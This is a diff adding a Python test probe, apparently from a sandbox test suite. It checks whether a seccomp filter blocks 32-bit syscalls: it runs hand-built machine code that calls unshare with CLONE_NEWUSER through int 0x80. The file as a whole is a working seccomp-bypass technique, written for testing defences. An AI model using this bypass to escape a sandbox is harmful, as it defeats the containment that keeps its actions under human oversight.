@@ -1,0 +1,26 @@
+"""Makes system calls by their numbers for 32 bits, which a filter for 64 bits takes for others.
+
+stopped by: seccomp
+unfenced: succeeds
+"""
+# %%
+import ctypes
+import mmap
+import os
+import platform
+
+UNSHARE_32, CLONE_NEWUSER = 310, 0x10000000
+# push rbx; mov eax, UNSHARE_32; mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
+CODE = b"\x53\xb8" + UNSHARE_32.to_bytes(4, "little") + b"\xbb" + CLONE_NEWUSER.to_bytes(4, "little") + b"\xcd\x80\x5b\xc3"
+
+
+def attack():
+    if platform.machine() != "x86_64":
+        return None
+    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    memory.write(CODE)
+    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
+    child = os.fork()
+    if child == 0:
+        os._exit(7 if call() == 0 else 0)
+    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7
